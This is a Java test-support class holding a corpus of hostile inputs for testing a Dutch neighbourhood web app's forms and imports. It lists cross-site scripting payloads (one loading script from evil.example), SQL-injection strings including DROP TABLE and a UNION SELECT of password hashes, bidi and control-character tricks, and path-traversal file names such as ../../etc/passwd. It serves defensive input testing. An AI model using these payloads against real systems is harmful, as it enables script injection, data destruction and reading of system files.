package nl.wijkatelier.support;

import java.util.List;

/**
 * The corpus of hostile text inputs sent to every form and import. Each has a name (for test reports) and
 * says whether a form post can carry it at all: an unpaired surrogate cannot be encoded in UTF-8, so only
 * JSON (with a {@code \\uD800} escape) transports it.
 */
public final class HostileInputs {

	/** One hostile value; {@code jsonOnly} when only a JSON escape can carry it. */
	public record Hostile(String name, String value, boolean jsonOnly) {
		@Override
		public String toString() {
			return name;
		}
	}

	/** The longest any free-text field accepts is 10 000 characters; this is ten times that. */
	public static final String VERY_LONG = "Lang verhaal over de wijk. ".repeat(3704).substring(0, 100_000);

	public static final List<Hostile> ALL = List.of(
			// markup and scripts
			h("script tag", "<script>alert('x')</script>"),
			h("script in text", "Samen vergroenen <script src=//evil.example/x.js></script>"),
			h("img onerror", "<img src=x onerror=alert(1)>"),
			h("svg onload", "<svg/onload=alert(1)>"),
			h("anchor javascript", "<a href=\"javascript:alert(1)\">klik</a>"),
			h("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
			h("end tag only", "tekst</textarea><script>alert(1)</script>"),
			h("html comment", "<!-- verborgen --> tekst"),
			h("processing instruction", "<?xml version=\"1.0\"?>"),
			h("attribute break-out", "\" autofocus onfocus=\"alert(1)\" x=\"<b"),
			h("style tag", "<style>body{display:none}</style>"),
			h("javascript url", "javascript:alert(document.cookie)"),
			h("javascript url with tab", "java\tscript:alert(1)"),
			h("vbscript url", "VBScript:msgbox(1)"),
			h("data url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
			// long strings
			h("100k characters", VERY_LONG),
			// odd Unicode
			h("NUL", "voor\u0000na"),
			h("escape control", "kleur\u001B[31mrood"),
			h("bell and backspace", "a\u0007\u0008b"),
			h("C1 control", "tekst\u0085meer"),
			h("bidi override", "factuur\u202Efdp.exe"),
			h("bidi embedding", "\u202Bomgekeerd\u202C"),
			h("bidi isolate", "\u2067isolaat\u2069"),
			h("zero-width space", "ad\u200Bmin"),
			h("byte order mark", "\uFEFFtekst"),
			h("word joiner", "tegel\u2060wippen"),
			h("line separator", "regel\u2028regel"),
			h("non-character FFFF", "tekst\uFFFF"),
			h("non-character FDD0", "tekst\uFDD0"),
			h("non-character 1FFFE", "tekst" + new String(Character.toChars(0x1FFFE))),
			new Hostile("unpaired high surrogate", "tekst\uD800", true),
			new Hostile("unpaired low surrogate", "\uDC00tekst", true));

	/**
	 * Text that looks like SQL. It is not hostile here: every query is parameterised, so such text is stored as
	 * written and, like all text, escaped wherever it is shown.
	 */
	public static final List<String> SQL_LOOKING = List.of("' OR '1'='1", "' OR 1=1 --", "admin'--",
			"'; DROP TABLE user_account; --", "x; DELETE FROM signup", "1 UNION SELECT email, password_hash FROM user_account",
			"' union all select null,null--", "\" OR \"\"=\"", "a'; UPDATE user_account SET admin = true");

	/** A representative subset for the cross product over every field: one of each kind. */
	public static final List<Hostile> REPRESENTATIVE = ALL.stream()
			.filter(h -> List.of("script tag", "javascript url", "attribute break-out", "100k characters",
					"NUL", "bidi override", "zero-width space").contains(h.name()))
			.toList();

	/** Values a form post can carry. */
	public static List<Hostile> forForms(List<Hostile> values) {
		return values.stream().filter(h -> !h.jsonOnly()).toList();
	}

	/** Path traversal and markup in multipart file names. */
	public static final List<String> FILE_NAMES = List.of("../../etc/passwd", "..\\..\\windows\\win.ini",
			"/etc/passwd", "tasks.geojson\u0000.exe", "<script>alert(1)</script>.geojson");

	private static Hostile h(String name, String value) {
		return new Hostile(name, value, false);
	}

	private HostileInputs() {
	}
}
